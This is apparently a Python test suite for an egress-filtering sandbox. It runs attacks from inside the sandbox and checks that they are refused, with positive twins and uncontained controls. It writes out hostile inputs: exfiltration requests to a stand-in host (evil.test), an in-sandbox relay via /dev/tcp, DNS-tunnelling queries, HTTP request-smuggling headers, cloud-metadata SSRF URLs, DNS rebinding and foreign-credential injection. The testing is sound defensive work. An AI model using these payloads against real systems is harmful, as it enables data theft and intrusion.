"""Attacks on the way out, run from inside a bottle by test_attacks_*.py; each has its positive twin.

An attack passes when the client got its answer, nothing of the attack reached a server or the name server,
and, where one is named, an audit record has the stated reason. The controls at the end show that the same
attacks reach their sinks when no bottle is around them.
"""

import base64
import functools
import json
import os
import re
import socket
import subprocess
import time

from rig.bottle import Home, program
from rig.core import Rig
from rig.netns import ADDRESS4, ADDRESS6
from rig.servers import FORMS

PROXY = "http://127.0.0.1:9099"
ALLOWED = ("allowed.test", "free.test", "plain.test", "v6.test", "goodalias.test", "a.wild.test", "a.b.wild.test",
           "other.test")
BOTTLE = """
image: base
egress:
  routes:
    - host: allowed.test
      auth: { scheme: Bearer, token_ref: TOK }
    - host: keyed.test
      auth: { header: x-api-key, token_ref: KEY }
    - host: basic.test
      auth: { scheme: Basic, user: agent, token_ref: TOK }
    - host: asked.test
      auth: { query: key, token_ref: KEY }
    - host: rules.test
      matches:
        - paths: [{type: prefix, value: /ok}, {type: regex, value: '/repos/[^/]+/pulls(/[0-9]+)?'}]
          methods: [GET]
        - paths: [{type: exact, value: /graphql}]
          headers: [{name: content-type, value: application/json}]
        - paths: [{type: exact, value: /search}]
          query: [{name: q, type: regex, value: '[a-z ]+'}]
    - host: fetch.test
      git: {fetch: true}
    - host: slow.test
      rate: {requests: 4}
    - host: inside.test
      ports: [443]
      private: true
    - host: here.test
      ports: [443]
      private: loopback
    - host: free.test
    - host: other.test
      ports: [443, 8443]
    - host: plain.test
      plain_ports: [80, 8080]
    - host: "*.wild.test"
    - host: v6.test
    - host: goodalias.test
    - host: badcert.test
      auth: { scheme: Bearer, token_ref: TOK }
    - host: wrongname.test
      auth: { scheme: Bearer, token_ref: TOK }
    - host: expired.test
      auth: { scheme: Bearer, token_ref: TOK }
    - host: loop4.test
    - host: loop6.test
    - host: private.test
    - host: ula.test
    - host: linklocal.test
    - host: mapped.test
    - host: cgn.test
    - host: zero.test
    - host: multicast.test
    - host: alias.test
    - host: rebind.test
    - host: nowhere.test
resources:
  memory: 512M
"""
# Runs inside: sockets and TLS without a library's opinions. argv: a JSON list of steps.
GUEST = r'''
import json, os, socket, ssl, sys
def connect(host, port):
    return socket.create_connection((host, port), 10)
def read(s, n=65536, whole=True):
    data = b""
    s.settimeout(8)
    try:
        while len(data) < n:
            piece = s.recv(65536)
            if not piece:
                break
            data += piece
            if not whole and b"\r\n\r\n" in data:
                break
    except (OSError, ValueError) as e:
        data += b"<" + type(e).__name__.encode() + b">"
    return data
def run(job):
    s = connect(job["host"], job["port"])
    for step in job["steps"]:
        kind, value = step
        if kind == "send":
            s.sendall(value.encode("latin1"))
        elif kind == "head":
            print(read(s, whole=False).decode("latin1"))
        elif kind == "read":
            print(read(s).decode("latin1"))
        elif kind == "tls":
            c = ssl._create_unverified_context() if value.get("blind") else ssl.create_default_context()
            if value.get("name") is None:
                c.check_hostname = False
            c.set_alpn_protocols(["http/1.1"])
            s = c.wrap_socket(s, server_hostname=value.get("name"))
            print("peer:", s.version())
try:
    run(json.loads(sys.argv[1]))
except Exception as e:
    print("error:", type(e).__name__, e)
'''


class World:
    """Rig, home and one bottle for all tests of a file."""

    def __init__(self, backend):
        self.backend, self.rig = backend, Rig()
        self.rig.__enter__()
        for name in ("free.test", "keyed.test", "basic.test", "asked.test", "rules.test", "fetch.test", "slow.test"):
            self.rig.zone[name] = [ADDRESS4, ADDRESS6]
        self.rig.zone.update({"inside.test": ["10.1.2.3"], "here.test": ["127.0.0.1"]})
        self.token, self.key = self.rig.secret("tok"), self.rig.secret("key")
        self.home = Home(TOK=self.token, KEY=self.key)
        self.home.bottle("attacks", BOTTLE)
        self.home.agent("attacker", "attacks")
        self.bottle = self.home.start("attacker", backend, label="attacks")
        try:
            self.bottle.wait_ready()
            self.bottle.sh("cat > /tmp/guest.py <<'E'\n" + GUEST + "\nE", check=True)
        except BaseException:
            self.close()
            raise

    def close(self):
        self.bottle.stop()
        self.home.__exit__()
        self.rig.__exit__()

    def curl(self, *argv):
        """(status as text, what was printed, exit code); status 000 when there was no answer."""
        done = self.bottle.exec("curl", "-sS", "-m", "20", "-w", "\n%{http_code}", *argv)
        text, _, status = done.stdout.rpartition("\n")
        return status, text + done.stderr, done.returncode

    def raw(self, *steps, host="127.0.0.1", port=9099):
        done = self.bottle.exec("python3", "/tmp/guest.py", json.dumps({"host": host, "port": port, "steps": steps}))
        return done.stdout + done.stderr

    def inside(self, host, text, sni=None, blind=False):
        """Sends bytes inside TLS through a tunnel for host, returns all that comes back."""
        return self.raw(("send", f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n"), ("head", None),
                        ("tls", {"name": sni or host, "blind": blind}), ("send", text), ("read", None))

    def quiet(self, mark, allowed=ALLOWED):
        seen = self.rig.silence(mark, allowed=allowed)
        assert not seen, f"the rig saw {seen}"

    def refused_record(self, since, reason, host=None):
        """The audit has a refusal with the reason (and host), written after `since` records."""
        deadline = time.monotonic() + 5
        while True:
            records = self.bottle.audit()[since:]
            for r in records:
                if r.get("verdict") == "refused" and r.get("reason") == reason and host in (None, r.get("host")):
                    return r
            assert time.monotonic() < deadline, f"no refusal with reason '{reason}' for {host} among {records}"
            time.sleep(0.05)

    def mark(self):
        return self.rig.events.mark()


def get(host, path="/", extra=""):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n"


# ---- positive twins

def test_an_allowed_host_answers_on_every_way_in(w):
    for argv in (["https://free.test/a"], ["--noproxy", "*", "https://free.test/b"], ["-4", "--noproxy", "*", "https://free.test/c"],
                 ["-6", "--noproxy", "*", "https://free.test/d"], ["--noproxy", "*", "https://other.test:8443/e"],
                 ["-x", PROXY, "https://other.test:8443/f"], ["http://plain.test/g"], ["--noproxy", "*", "http://plain.test/h"],
                 ["--noproxy", "*", "http://plain.test:8080/i"], ["-x", PROXY, "http://plain.test:8080/j"],
                 ["https://a.wild.test/k"], ["https://a.b.wild.test/l"], ["https://v6.test/m"], ["https://goodalias.test/n"],
                 ["https://FREE.TEST/o"]):
        status, text, _ = w.curl(*argv)
        assert status == "200" and json.loads(text)["target"] == "/" + argv[-1][-1], f"{argv}: {status} {text}"
    assert w.rig.events.all("dns", name="free.test"), "the name of an allowed host was not asked for"


def test_bodies_pass_unchanged_in_both_directions(w):
    w.bottle.sh("head -c 1000000 /dev/zero | tr '\\0' x >/tmp/body", check=True)
    status, text, _ = w.curl("--data-binary", "@/tmp/body", "https://free.test/post")
    assert status == "200" and json.loads(text)["body"] == "x" * 1000000, f"{status} {text[:300]}"
    status, text, _ = w.curl("-H", "Transfer-Encoding: chunked", "--data-binary", "@/tmp/body", "https://free.test/chunked")
    assert status == "200" and text == "x" * 1000000, f"{status} {text[:300]}"
    done = w.bottle.sh("curl -sS -m 60 https://free.test/bytes?n=20000000 | wc -c")
    assert done.stdout.strip() == "20000000", done.stdout + done.stderr
    status, text, _ = w.curl("https://free.test/close")
    assert (status, text) == ("200", "until the end")


def test_a_stream_is_not_buffered(w):
    name = f"gate-{os.urandom(4).hex()}"
    with open(os.path.join(w.home.top, "gated"), "wb") as out:
        process = subprocess.Popen([program(), "exec", w.bottle.id, "--", "curl", "-sSN", "-m", "30",
                                    f"https://free.test/gated?gate={name}"], env=w.home.env, stdin=subprocess.DEVNULL,
                                   stdout=subprocess.PIPE, stderr=out)
        first = process.stdout.readline()
        w.rig.gate(name)
        rest = process.stdout.read()
        process.wait(30)
    assert first == b"data: first\n" and b"data: second\n" in rest, (first, rest)


def test_the_credential_is_put_in_and_every_other_one_removed(w):
    mark = w.mark()
    status, text, _ = w.curl("-H", "Authorization: Bearer ATTACKER", "-H", "x-api-key: ATTACKER", "-H", "Cookie: s=ATTACKER",
                             "-H", "Proxy-Authorization: Basic ATTACKER", "-u", "ATTACKER:ATTACKER", "https://allowed.test/")
    assert status == "200", text
    event = w.rig.events.all("http", since=mark, host="allowed.test")[0]
    assert f"Bearer {w.token}".encode() in event["head"] and b"ATTACKER" not in event["head"], event["head"]
    status, text, _ = w.curl("-H", "Authorization: Bearer ATTACKER", "https://keyed.test/")
    event = w.rig.events.all("http", since=mark, host="keyed.test")[0]
    assert f"x-api-key: {w.key}".lower().encode() in event["head"].lower() and b"ATTACKER" not in event["head"], event["head"]
    status, text, _ = w.curl("-H", "Authorization: Bearer MINE", "https://free.test/")
    assert ["authorization", "Bearer MINE"] in [[k.lower(), v] for k, v in json.loads(text)["headers"]], \
        "a host without a bound credential keeps the guest's own"


# ---- 1: around the mediator

def test_n1_a_host_not_allowed_is_refused_alike_on_every_way_in(w):
    mark, audit = w.mark(), len(w.bottle.audit())
    for argv in (["http://evil.test/?d=canary"], ["--noproxy", "*", "http://evil.test/?d=canary"],
                 ["https://evil.test/?d=canary"], ["--noproxy", "*", "https://evil.test/?d=canary"],
                 ["-6", "--noproxy", "*", "https://evil.test/?d=canary"], ["-x", PROXY, "--proxytunnel", "http://evil.test/?d=canary"]):
        status, text, code = w.curl(*argv)
        assert status == "403" and "evil.test" in text, f"{argv}: {status} {code} {text}"
    w.quiet(mark)
    assert len([r for r in w.bottle.audit()[audit:] if r["reason"] == "host_not_allowed"]) >= 6
    w.refused_record(audit, "host_not_allowed", "evil.test")


def test_n2_without_proxy_variables_there_is_no_other_way(w):
    mark = w.mark()
    text = w.bottle.exec("env", "-i", "python3", "-c", "import socket\nfor a in (('8.8.8.8',443),('1.1.1.1',853),('9.9.9.9',25)):\n"
                         " try:\n  s=socket.create_connection(a,5);s.settimeout(5);s.sendall(b'canary');print(a,len(s.recv(99)))\n"
                         " except OSError as e: print(a,e)").stdout
    assert text.count("(") == 3, text
    w.quiet(mark)


def test_n3_a_relay_inside_gets_the_same_verdict(w):
    mark = w.mark()
    script = ("python3 - <<'E' &\nimport socket,threading\nl=socket.create_server(('127.0.0.1',9999))\ndef p(a,b):\n"
              " while (d:=a.recv(9999)): b.sendall(d)\n b.shutdown(1)\nfor _ in range(2):\n c,_=l.accept()\n"
              " u=socket.create_connection(('127.0.0.1',9099))\n threading.Thread(target=p,args=(c,u)).start()\n"
              " threading.Thread(target=p,args=(u,c)).start()\nE\n"
              "until (exec 3<>/dev/tcp/127.0.0.1/9999) 2>/dev/null; do :; done\n"
              "curl -sS -m 10 -x http://127.0.0.1:9999 -w '%{http_code}' https://evil.test/canary; wait")
    done = w.bottle.exec("bash", "-c", script)
    assert done.stdout.endswith("403"), done.stdout + done.stderr
    w.quiet(mark)


def test_n4_only_listed_ports_exist(w):
    mark = w.mark()
    done = w.bottle.exec("python3", "-c", """
import socket
for host in ('evil.test', 'free.test'):
    for p in (22, 25, 3000, 5432, 6379, 8080, 8888, 2375, 9418):
        try:
            s = socket.create_connection((host, p), 3)
            s.settimeout(4)
            s.sendall(b'canary')
            print('bytes' if s.recv(10) else 'closed', host, p)
        except OSError as e:
            print('refused', host, p, e)
""")
    assert "bytes" not in done.stdout and len(done.stdout.splitlines()) == 18, done.stdout + done.stderr
    status, text, _ = w.curl("-x", PROXY, "https://free.test:8443/canary")
    assert status in ("403", "000"), f"{status} {text}"
    w.quiet(mark, allowed=())


def test_n6_an_address_is_no_name(w):
    mark, audit = w.mark(), len(w.bottle.audit())
    for url in (f"https://{ADDRESS4}/", f"https://[{ADDRESS6}]/", f"http://{ADDRESS4}/", "https://2130706433/", "https://0x7f.1/"):
        for way in (["--noproxy", "*"], ["-x", PROXY]):
            status, text, _ = w.curl("-k", *way, url + "canary")
            assert status in ("403", "400", "000"), f"{url} {way}: {status} {text}"
    w.quiet(mark, allowed=())
    w.refused_record(audit, "address_literal")


def test_n8_a_server_name_other_than_the_tunnel_s_is_refused(w):
    mark = w.mark()
    text = w.inside("free.test", get("free.test"), sni="evil.test", blind=True)
    assert "error:" in text and '"target"' not in text, text
    w.quiet(mark, allowed=())
    text = w.inside("free.test", get("free.test"))
    assert '"target": "/"' in text, text


def test_n9_a_host_header_other_than_the_tunnel_s_gets_421(w):
    mark = w.mark()
    text = w.inside("allowed.test", get("evil.test", "/canary"))
    assert "HTTP/1.1 421" in text, text
    status, text, _ = w.curl("-H", "Host: evil.test", "https://allowed.test/canary")
    assert status == "421", f"{status} {text}"
    assert not w.rig.events.all("http", since=mark), "a request arrived"


def test_n10_the_guest_cannot_choose_the_address(w):
    mark = w.mark()
    status, text, _ = w.curl("--noproxy", "*", "-k", "--connect-to", "allowed.test:443:203.0.114.9:443", "https://allowed.test/")
    assert status in ("403", "000"), f"{status} {text}"
    assert not [e for e in w.rig.events.all("accept", since=mark)], "something was dialled"


def test_n11_two_hosts_in_one_request_are_refused(w):
    mark = w.mark()
    for text in ("GET / HTTP/1.1\r\nHost: free.test\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\r\n\r\n",
                 "GET / HTTP/1.1\r\nHost:\r\n\r\n", "GET / HTTP/1.1\r\nHost: free.test, evil.test\r\n\r\n",
                 "GET http://evil.test/ HTTP/1.1\r\nHost: free.test\r\n\r\n"):
        answer = w.inside("free.test", text)
        assert re.search(r"HTTP/1.1 (400|421|403)", answer), f"{text!r}: {answer}"
    assert not w.rig.events.all("http", since=mark)
    answer = w.raw(("send", "GET http://evil.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n"), ("read", None))
    assert re.search(r"HTTP/1.1 (400|403|421)", answer), answer
    w.quiet(mark)


def test_n13_a_host_name_is_letters_digits_and_dashes(w):
    mark = w.mark()
    for name in ("evil.test\0.free.test", "evil.test%00.free.test", "evil.test\r\nX: y", "evil.test .free.test", "free.test\t",
                 "a_b!.free.test", "free..test", ".free.test", "-", "a" * 64 + ".wild.test", "free.test:443:443"):
        answer = w.raw(("send", f"CONNECT {name}:443 HTTP/1.1\r\nHost: free.test:443\r\n\r\n"), ("head", None))
        assert not answer.startswith("HTTP/1.1 200"), f"{name!r}: {answer}"
    w.quiet(mark, allowed=())


def test_n14_a_suffix_matches_on_a_label_boundary_only(w):
    mark = w.mark()
    for host in ("notfree.test", "free.test.evil.test", "evilwild.test", "wild.test", "free.tes", "test"):
        status, text, _ = w.curl(f"https://{host}/canary")
        assert status == "403", f"{host}: {status} {text}"
    w.quiet(mark, allowed=())


def test_n15_case_and_a_trailing_dot_change_nothing(w):
    mark = w.mark()
    for url in ("https://EVIL.TEST/", "https://evil.test./", "https://EVIL.TEST.:443/"):
        status, text, _ = w.curl(url)
        assert status == "403", f"{url}: {status} {text}"
    w.quiet(mark, allowed=())


def test_n16_n17_user_parts_and_look_alikes_are_decided_on_the_real_host(w):
    mark = w.mark()
    for url in ("http://free.test@evil.test/", "https://free.test:x@evil.test/", "https://xn--llowed-4nf.test/"):
        status, text, _ = w.curl(url)
        assert status in ("403", "000"), f"{url}: {status} {text}"
    for target in ("http://plain.test@evil.test/", "http://evil.test\\@plain.test/", "http://plain.test%40evil.test/"):
        answer = w.raw(("send", f"GET {target} HTTP/1.1\r\nHost: plain.test\r\n\r\n"), ("read", None))
        assert re.search(r"HTTP/1.1 (400|403|421)", answer), f"{target}: {answer}"
    w.quiet(mark, allowed=())


def test_n19_n20_metadata_and_the_host_s_loopback_are_out_of_reach(w):
    mark = w.mark()
    for url in ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://100.100.100.200/",
                "http://168.63.129.16/", "http://metadata.google.internal/", "http://127.0.0.1:22/", "http://10.0.2.2/"):
        for way in (["--noproxy", "*"], ["-x", PROXY]):
            status, text, _ = w.curl(*way, url)
            assert status in ("403", "400", "000", "502"), f"{url} {way}: {status} {text}"
    w.quiet(mark, allowed=())


def test_n21_an_allowed_name_with_a_special_address_is_refused(w):
    for host in ("loop4.test", "loop6.test", "private.test", "ula.test", "linklocal.test", "mapped.test", "cgn.test",
                 "zero.test", "multicast.test", "alias.test"):
        mark, audit = w.mark(), len(w.bottle.audit())
        status, text, _ = w.curl(f"https://{host}/canary")
        assert status in ("403", "502"), f"{host}: {status} {text}"
        assert w.rig.events.all("dns", since=mark, name=host), f"{host} was not resolved: the test proves nothing"
        assert not w.rig.events.all("accept", since=mark), f"{host} was dialled"
        assert [r for r in w.bottle.audit()[audit:] if r["host"] == host and r["verdict"] == "refused"], host


def test_n22_the_address_that_was_checked_is_the_one_that_is_dialled(w):
    from rig.dns import Alternate
    w.rig.zone["rebind.test"] = Alternate([ADDRESS4], ["127.0.0.1"])
    for _ in range(3):
        w.curl("https://rebind.test/")
    local = [e for e in w.rig.events.all("accept") if e["address"] in ("127.0.0.1", "::1") and e["port"] == 443]
    assert not local, local
    assert w.rig.events.all("http", host="rebind.test"), "the first answer was a good one and was not used"


def test_n23_a_redirect_is_decided_anew(w):
    mark = w.mark()
    for to in ("https://evil.test/canary", "http://169.254.169.254/"):
        status, text, _ = w.curl("-L", f"https://free.test/302?to={to}")
        assert status in ("403", "000"), f"{to}: {status} {text}"
    w.quiet(mark)


def test_n27_there_is_no_udp(w):
    mark = w.mark()
    done = w.bottle.exec("python3", "-c", """
import socket
for f, a in ((socket.AF_INET, '45.90.7.1'), (socket.AF_INET6, '2a0e:b0b::1')):
    for p in (443, 123, 853, 5353, 9999):
        s = socket.socket(f, socket.SOCK_DGRAM)
        s.settimeout(0.5)
        try:
            s.sendto(b'canary', (a, p))
            s.recv(10)
            print('answer')
        except OSError:
            print('nothing')
""")
    assert done.stdout.split() == ["nothing"] * 10, done.stdout + done.stderr
    w.quiet(mark, allowed=())


# ---- 2: DNS

def test_d1_d2_d3_d5_no_query_leaves(w):
    mark = w.mark()
    w.curl("http://canary1.evil.test/")
    w.curl("https://canary2.evil.test/")
    w.curl("--noproxy", "*", "https://canary3.evil.test/")
    done = w.bottle.exec("python3", "-c", r"""
import socket, struct
def ask(kind, server, name, tcp=False):
    q = b'\0\1\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', kind, 1)
    try:
        if tcp:
            s = socket.create_connection((server, 53), 2)
            s.sendall(struct.pack('>H', len(q)) + q)
        else:
            s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(q, (server, 53))
        s.settimeout(1)
        s.recv(999)
    except OSError:
        pass
for server in ('8.8.8.8', '127.0.0.1', '2001:4860:4860::8888', '45.90.7.1'):
    for kind in (1, 28, 16, 10, 65, 255, 5):
        ask(kind, server, 'canary4.evil.test')
    ask(1, server, 'canary5.evil.test', tcp=True)
try:
    socket.getaddrinfo('canary6.evil.test', 443)
except OSError:
    pass
print('over')
""", timeout=80)
    assert "over" in done.stdout, done.stderr
    w.quiet(mark, allowed=())


def test_d7_a_name_that_is_not_allowed_looks_like_any_other(w):
    done = w.bottle.exec("python3", "-c", "import socket\nfor n in ('evil.test','no-such-name-at-all.test','free.test'):\n"
                         " print(socket.getaddrinfo(n,443,socket.AF_INET)[0][4][0].split('.')[:2])")
    assert done.stdout.splitlines() == ["['198', '18']"] * 3, done.stdout + done.stderr


# ---- 3: HTTP parsing

def test_p1_p2_ambiguous_messages_are_refused_whole(w):
    mark = w.mark()
    smuggled = "GET /smuggled HTTP/1.1\r\nHost: free.test\r\n\r\n"
    for headers in ("Content-Length: 5\r\nContent-Length: 60\r\n", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
                    "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding : chunked\r\n", "Transfer-Encoding: chunked, identity\r\n",
                    "Content-Length: +5\r\n", "Content-Length: 5 \r\n X: folded\r\n", "Content-Length: 0x5\r\n", "X: a\n\n"):
        answer = w.inside("free.test", f"POST /first HTTP/1.1\r\nHost: free.test\r\n{headers}\r\nAAAAA{smuggled}")
        assert "HTTP/1.1 400" in answer and '"target"' not in answer, f"{headers!r}: {answer}"
    assert not w.rig.events.all("http", since=mark), "something was forwarded"


def test_p3_each_pipelined_request_is_decided(w):
    mark = w.mark()
    answer = w.inside("free.test", get("free.test", "/one").replace("Connection: close\r\n", "") + get("evil.test", "/two"))
    assert '"/one"' in answer and "HTTP/1.1 421" in answer and '"/two"' not in answer, answer
    assert [e["target"] for e in w.rig.events.all("http", since=mark)] == ["/one"]


WAYS = ([], ["--noproxy", "*"], ["-6", "--noproxy", "*"])  # by the proxy variables, transparent on both families


def test_p4_paths_methods_headers_and_queries_are_judged_as_they_are_sent(w):
    json_type, plain_type = ["-H", "Content-Type: application/json"], ["-H", "Content-Type: text/plain"]
    for way in WAYS:
        mark, audit = w.mark(), len(w.bottle.audit())
        for argv in (["/ok/../secret"], ["/ok/%2e%2e/secret"], ["//secret"], ["/ok/..;/secret"], ["/ok/%5c../secret"], ["/okay"],
                     ["/ok/%00"], ["/ok/a%2fb"], ["-XPOST", "/ok"], ["/repos/a/b/pulls"], ["/repos/a/pulls/1x"], ["-XPOST", "/graphql"],
                     ["-XPOST", *plain_type, "/graphql"], ["-XPOST", *json_type, *plain_type, "/graphql"],
                     ["-XPOST", "-H", "Content_Type: application/json", "/graphql"], ["/search"], ["/search?q=A1"],
                     ["/search?q=a&q=A1"], ["/search?q=a&Q=A1"], ["/search?q=a;q=A1"], ["/search?q=a&q%5B%5D=A1"]):
            status, text, _ = w.curl("--path-as-is", "-g", *way, *argv[:-1], "https://rules.test" + argv[-1])
            assert status in ("403", "400") and "bot-bottle" in text, f"{way} {argv}: {status} {text}"
        w.quiet(mark, allowed=())
        for reason in ("path_not_allowed", "path_invalid", "method_not_allowed", "header_not_allowed", "query_not_allowed"):
            w.refused_record(audit, reason, "rules.test")
        for argv, target in ((["/ok/./a/../b?x=1"], "/ok/b?x=1"), (["/repos/a/pulls/12"], "/repos/a/pulls/12"),
                             (["-XPOST", *json_type, "/graphql"], "/graphql"), (["/search?q=two%20words"], "/search?q=two%20words")):
            status, text, _ = w.curl("--path-as-is", "-g", *way, *argv[:-1], "https://rules.test" + argv[-1])
            assert status == "200" and json.loads(text)["target"] == target, f"{way} {argv}: {status} {text}"


def test_p7_an_upgrade_gets_426(w):
    mark = w.mark()
    answer = w.inside("free.test", get("free.test", "/ws", "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                                       "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n").replace("Connection: close", "Connection: Upgrade"))
    assert "HTTP/1.1 426" in answer, answer
    assert not w.rig.events.all("http", since=mark)


# ---- 4: an allowed destination, another's account

def test_a1_a_foreign_credential_does_not_leave_to_a_host_with_ours(w):
    foreign = ["-H", "Authorization: Bearer ATTACKER", "-H", "x-api-key: ATTACKER", "-H", "X_Api_Key: ATTACKER", "-H", "Cookie: s=ATTACKER",
               "-H", "Private-Token: ATTACKER", "-H", "X-Other: Bearer ATTACKERATTACKER"]
    for way in WAYS:
        for host, ours in (("allowed.test", f"Authorization: Bearer {w.token}"), ("keyed.test", f"x-api-key: {w.key}"),
                           ("basic.test", "Authorization: Basic " + base64.b64encode(f"agent:{w.token}".encode()).decode()),
                           ("asked.test", f"key={w.key} ")):
            mark = w.mark()
            status, text, _ = w.curl(*way, *foreign, "-F", "file=@/etc/hostname", f"https://{host}/v1/files?a=1")
            assert status == "200", f"{way} {host}: {status} {text}"
            event = w.rig.events.all("http", since=mark, host=host)[0]
            assert b"ATTACKER" not in event["head"] and ours.lower().encode() in event["head"].lower(), event["head"]
            mark = w.mark()
            for query in ("api_key=ATTACKER", "access_token=ATTACKER", "api%5fkey=ATTACKER", "a;token=ATTACKER"):
                status, text, _ = w.curl(*way, f"https://{host}/?{query}")
                assert status == "403" and "bound credential" in text, f"{way} {host} {query}: {status} {text}"
            assert not w.rig.events.all("http", since=mark)
    status, text, _ = w.curl("-H", "x-api-key: MINE", "https://free.test/?api_key=MINE")
    assert status == "200" and text.count("MINE") == 2, f"a host without a bound credential takes the guest's own: {text}"


def test_a2_nothing_is_pushed_and_only_a_route_that_says_so_is_fetched_from(w):
    for way in WAYS:
        mark = w.mark()
        for host in ("free.test", "fetch.test"):
            for target in ("/a/b.git/info/refs?service=git-receive-pack", "/a/b.git/git-receive-pack", "/a/b.git%2fgit-receive-pack",
                           "/a/b.git//git-receive-pack", "/a/b.git/info/lfs/objects/batch"):
                status, text, _ = w.curl("--path-as-is", *way, "-XPOST", f"https://{host}{target}")
                assert status == "403" and "git push" in text, f"{way} {host}{target}: {status} {text}"
        status, text, _ = w.curl(*way, "https://free.test/a/b.git/info/refs?service=git-upload-pack")
        assert status == "403" and "git: {fetch: true}" in text, f"{way}: {status} {text}"
        assert not w.rig.events.all("http", since=mark)
        status, text, _ = w.curl(*way, "https://fetch.test/a/b.git/info/refs?service=git-upload-pack")
        assert status == "200", f"{way}: {status} {text}"


def test_a_rate_counts_every_way_in_together(w):
    seen = [w.curl(*WAYS[i % len(WAYS)], f"https://slow.test/{i}") for i in range(6)]
    assert [s[0] for s in seen] == ["200"] * 4 + ["429"] * 2 and "4 requests an hour" in seen[-1][1], seen
    assert len(w.rig.events.all("http", host="slow.test")) == 4


def test_private_reaches_the_one_host_that_its_route_names(w):
    for way in WAYS:
        for host, address in (("inside.test", "10.1.2.3"), ("here.test", "127.0.0.1")):
            status, text, _ = w.curl(*way, f"https://{host}/")
            assert status == "200" and json.loads(text)["address"] == address, f"{way} {host}: {status} {text}"
        mark = w.mark()
        for host in ("private.test", "loop4.test"):  # the same ranges, by routes that do not say so
            status, text, _ = w.curl(*way, f"https://{host}/")
            assert status == "403" and "private" in text, f"{way} {host}: {status} {text}"
        assert not w.rig.events.all("accept", since=mark)


# ---- 5: secrets

def test_s2_the_injected_credential_is_not_reflected(w):
    for way in WAYS:
        for host, secret in (("allowed.test", w.token), ("keyed.test", w.key), ("basic.test", w.token), ("asked.test", w.key)):
            for query in ("as=raw", "as=base64", "as=basic", "as=hex&split=1", "as=percent-all&end=close", "as=raw&coding=gzip&split=9",
                          "as=json", "as=raw&in=header"):
                status, text, _ = w.curl(*way, "-i", f"https://{host}/reflect?{query}")
                assert status == "200" and "****" in text, f"{way} {host} {query}: {status} {text}"
                for form in FORMS.values():
                    assert form(secret)[8:-8] not in text, f"{way} {host} {query}: {text}"
    status, text, _ = w.curl("-H", "x-api-key: 0123456789MINE", "https://free.test/reflect?as=base64")  # the twin: nothing is bound
    assert base64.b64encode(b"0123456789MINE").decode() in text, text


def test_s3_s4_the_credential_goes_only_to_a_verified_host_over_tls(w):
    mark = w.mark()
    for host in ("badcert.test", "wrongname.test", "expired.test"):
        status, text, _ = w.curl(f"https://{host}/")
        assert status == "502", f"{host}: {status} {text}"
        assert w.rig.events.all("dns", since=mark, name=host), f"{host} was not even tried: the test proves nothing"
    assert not w.rig.events.all("http", since=mark)
    for way in (["--noproxy", "*"], ["-x", PROXY]):
        status, text, _ = w.curl(*way, "http://allowed.test/")
        assert status in ("403", "000"), f"{way}: {status} {text}"
    assert not w.rig.events.all("http", since=mark)


def test_s7_the_host_s_log_and_audit_hold_no_secret(w):
    w.curl("https://allowed.test/")
    w.curl("https://keyed.test/")
    for secret in (w.token, w.key):
        done = subprocess.run(["grep", "-rlaF", secret, w.home.top], capture_output=True, text=True, check=False)
        assert done.stdout == "", done.stdout
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        assert secret.encode() not in f.read(), pid
                except OSError:
                    pass


# ---- controls: without a bottle the attacks do reach the rig

def test_controls_the_same_attacks_outside_reach_their_sinks(w):
    mark = w.mark()
    subprocess.run(["curl", "-sS", "-m", "10", "--noproxy", "*", "https://evil.test/canary"], capture_output=True, check=True)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"canary", ("45.90.7.1", 9999))
    for port in (22, 8443):
        with socket.create_connection(("169.254.169.254", port), 5) as s:
            s.sendall(b"canary")
    assert w.rig.events.wait("http", since=mark, host="evil.test")
    assert w.rig.events.wait("dns", since=mark, name="evil.test")
    assert w.rig.events.wait("udp", since=mark, port=9999, data=b"canary")
    assert w.rig.events.wait("bytes", since=mark, port=22, address="169.254.169.254", data=b"canary")
    assert len(w.rig.silence(mark)) >= 5


# What a guest behind another stream could get wrong: each way in and each protocol once. The decisions are
# made by the same host code for every backend, and an emulated guest takes seconds for each command.
EVERY_BACKEND = ("test_an_allowed_host_answers_on_every_way_in", "test_a_stream_is_not_buffered",
                 "test_n1_a_host_not_allowed_is_refused_alike_on_every_way_in", "test_n4_only_listed_ports_exist",
                 "test_n6_an_address_is_no_name", "test_n27_there_is_no_udp", "test_d1_d2_d3_d5_no_query_leaves")


def bound(backend, names=None):
    """What a test file of a backend holds: the tests of a World made once, in order; all, or those named."""
    made = {}

    def setup_module():
        made["world"] = World(backend)

    def teardown_module():
        if made:
            made.pop("world").close()

    def bind(function):
        @functools.wraps(function, assigned=("__name__", "__doc__"))
        def run():
            function(made["world"])
        del run.__wrapped__
        return run

    tests = {n: bind(f) for n, f in globals().items()
             if n.startswith("test_") and callable(f) and (not names or n in names)}
    return {"setup_module": setup_module, "teardown_module": teardown_module, **tests}
